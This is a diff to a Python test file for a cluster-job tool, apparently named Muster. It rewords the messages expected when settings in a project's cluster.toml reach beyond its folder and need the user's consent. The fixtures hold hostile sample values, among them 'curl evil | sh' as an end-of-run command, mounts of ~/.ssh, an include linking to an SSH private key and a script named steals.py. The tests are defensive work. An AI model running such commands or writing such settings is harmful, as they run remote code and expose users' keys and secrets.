@@ -92,7 +92,7 @@ WISHES = {
     "a mount": ('mounts = ["/home/me/.ssh:/x:ro"]', "mount /home/me/.ssh:/x:ro on all hosts"),
     "the home as the folder": ('folder = "~"', "folder HOME is sent to the hosts"),
     "the home behind a link": ('folder = "data"', "folder HOME is sent to the hosts"),
-    "what the folder would keep": ('include = [".env"]', "include .env is sent, even where it is a credential"),
+    "what the folder would keep": ('include = [".env"]', "include .env is sent, even if it is a credential"),
     "a folder as data": ('[[data]]\nfolder = "~/.ssh"\ntarget = "/d"', "data all of HOME/.ssh, to /d on the hosts"),
     "a link as data": ('[[data]]\nfolder = "data"\ntarget = "/d"', "data all of HOME, to /d on the hosts"),
     "its own folder as data": ('[[data]]\nfolder = "."\ntarget = "/d"', "data all of WORK, to /d on the hosts"),
@@ -101,7 +101,7 @@ WISHES = {
     "a command at the end": ('on_end = "curl evil | sh"', "on-end curl evil | sh once the run has ended"),
     "an address at the end": ('on_end = "https://evil/x"', "on-end https://evil/x once the run has ended"),
     "another's user id": ("user = 1000", "user 1000 owns the run's processes on the hosts"),
-    "a network": ("overlay = true", "overlay a network of the run's own"),
+    "a network": ("overlay = true", "overlay the run makes its own network"),
     "a script behind a link": ('script = "steals.py"', "script steals.py leads to HOME/important"),
     "requirements behind a link": ('requirements = "needs.txt"', "requirements needs.txt leads to HOME/important"),
     "all GPUs": ('environment = { NVIDIA_VISIBLE_DEVICES = "all" }', "variable NVIDIA_VISIBLE_DEVICES=all"),
@@ -126,7 +126,7 @@ def test_a_files_wish_is_refused_by_name_without_a_terminal_and_granted_once_all
     assert clone.visits == 1
     again = clone.types("status")
     assert asked in again.output, "it is said each time"
-    assert "yours to allow" not in again.output
+    assert "things that only you can allow" not in again.output
     assert clone.visits == 2
 
 
@@ -155,7 +155,7 @@ def test_a_files_address_for_a_host_needs_consent_even_if_the_host_is_typed(clon
     assert clone.visits == 0
     (clone.folder / "cluster.toml").unlink()
     typed = clone.types("status", "--hosts", "evil")
-    assert "yours to allow" not in typed.output, "what is typed is never asked for"
+    assert "things that only you can allow" not in typed.output, "what is typed is never asked for"
     assert clone.visits == 1
 
 
@@ -226,7 +226,7 @@ def test_harmless_settings_need_no_consent(clone):
         "environment = { SEED = 1, LD_PRELOAD = '/x' }\n"
     )
     refused = clone.types("status")
-    asked = refused.err.partition("can ask you:\n")[2].partition("hint:")[0].split("\n")
+    asked = refused.err.partition("to ask you on:\n")[2].partition("hint:")[0].split("\n")
     assert [line.strip() for line in asked if line.strip()] == ["host evil at evil"]
     assert "muster status --allow-folder" in refused.err
     said = clone.types("status", "--allow-folder").err
@@ -246,7 +246,7 @@ def test_include_never_leads_out_of_the_folder(clone):
     clone.says('include = ["vocab/id_ed25519"]')
     refused = clone.types("push", "--allow-folder")
     assert refused.code == USAGE
-    assert f"vocab/id_ed25519 leads out of the folder, to {clone.there.home}/.ssh/id_ed25519" in refused.output
+    assert f"vocab/id_ed25519 is a link out of the folder, to {clone.there.home}/.ssh/id_ed25519" in refused.output
     assert clone.visits == 0
 
 
@@ -264,7 +264,7 @@ def test_a_person_is_asked_once_and_again_only_for_what_is_new(clone):
     assert "secret AWS_SECRET_ACCESS_KEY from this shell" in second.screen
     clone.says('secrets = ["AWS_SECRET_ACCESS_KEY"]\nmounts = ["/etc:/etc2"]')
     third = clone.person("status", answers=["y"])
-    question = third.screen.partition("asks for what is yours")[2].partition("[y/N]")[0]
+    question = third.screen.partition("asks for things that only you")[2].partition("[y/N]")[0]
     assert "mount /etc:/etc2 on all hosts" in question
     assert "AWS_SECRET" not in question, "only what is new is asked"
     kept.unlink()
@@ -400,7 +400,7 @@ def test_a_list_too_long_to_read_is_not_asked_at_a_terminal(clone):
     clone.says(f"secrets = [{names}]")
     said = clone.person("status", answers=["y"])
     assert (said.code, said.questions, clone.visits) == (USAGE, 0, 0)
-    assert "more than can be read" in said.screen
+    assert "too many to read" in said.screen
 
 
 @pytest.mark.parametrize(
@@ -472,7 +472,7 @@ def test_an_answer_holds_for_the_same_folder_and_for_no_other_at_its_path(clone)
         process = clone.begins("status", folder=folder)
         _, err = process.communicate(timeout=60)
         assert process.returncode == USAGE, err
-        assert "yours to allow" in err
+        assert "things that only you can allow" in err
 
 
 @pytest.mark.parametrize("place", ["by its settings", "by a link"])
@@ -487,7 +487,7 @@ def test_answers_stored_in_the_asking_folder_are_not_believed_and_muster_says_so
         (clone.there.folder / "config/muster/allowed").symlink_to(clone.folder / "allowed")
         (clone.folder / "allowed").mkdir(mode=0o700)
     said = clone.types("status", "--allow-folder")
-    assert "your answer holds for this command alone" in said.output
+    assert "your answer counts for this command only" in said.output
     assert clone.types("status").code == USAGE
 
 
@@ -497,7 +497,7 @@ def test_if_no_answer_can_be_kept_a_person_is_asked_each_time_and_told_why(clone
     for _ in range(2):
         said = clone.person("status", answers=["y"])
         assert said.questions == 1
-        assert "your answer holds for this command alone" in said.screen
+        assert "your answer counts for this command only" in said.screen
     assert clone.visits == 2
 
 
@@ -509,7 +509,7 @@ def test_two_simultaneous_commands_both_keep_their_answer(clone):
         assert "Traceback" not in err
         assert "secret AWS_SECRET_ACCESS_KEY from this shell" in err
     assert [path.suffix for path in clone.answers] == [".json"]
-    assert "yours to allow" not in clone.types("status").output
+    assert "things that only you can allow" not in clone.types("status").output
 
 
 def test_completion_reads_names_and_neither_asks_nor_connects(clone):
@@ -561,7 +561,7 @@ def test_a_script_of_another_users_folder_does_not_run_as_a_process_before_a_yes
     said = clone.person(*words, answers=["n"])
     assert (said.code, said.questions) == (USAGE, 1)
     recipe = clone.types("up", "--backend", "processes", "--args", "--recipe sub/inner/train.py")
-    assert (recipe.code, "whose folder this is" in recipe.output) == (USAGE, True), "a recipe for Muster's own trainer"
+    assert (recipe.code, "who owns this folder" in recipe.output) == (USAGE, True), "a recipe for Muster's own trainer"
     assert not ran.exists()
 
 
@@ -572,7 +572,7 @@ def test_a_user_without_a_home_is_asked_each_time(clone, monkeypatch):
         monkeypatch.setenv(name, "relative")
     monkeypatch.setattr(os.path, "expanduser", lambda path: path)
     assert (
-        "your answer holds for this command alone: this user has no home" in clone.types("status", "--allow-folder").err
+        "your answer counts for this command only: this user has no home" in clone.types("status", "--allow-folder").err
     )
     assert clone.types("status").code == USAGE
     assert {path.name for path in clone.folder.iterdir()} <= {"cluster.toml", "runs", "train.py"}
@@ -593,7 +593,7 @@ def test_a_cluster_toml_that_leads_out_of_the_folder_is_not_read(clone, tmp_path
     (clone.folder / "cluster.toml").symlink_to(outside)
     refused = clone.types("status")
     assert refused.code == USAGE
-    assert f"cluster.toml leads out of this folder, to {outside}" in refused.err
+    assert f"cluster.toml is a link out of this folder, to {outside}" in refused.err
     assert "TOML" not in refused.output
 
 
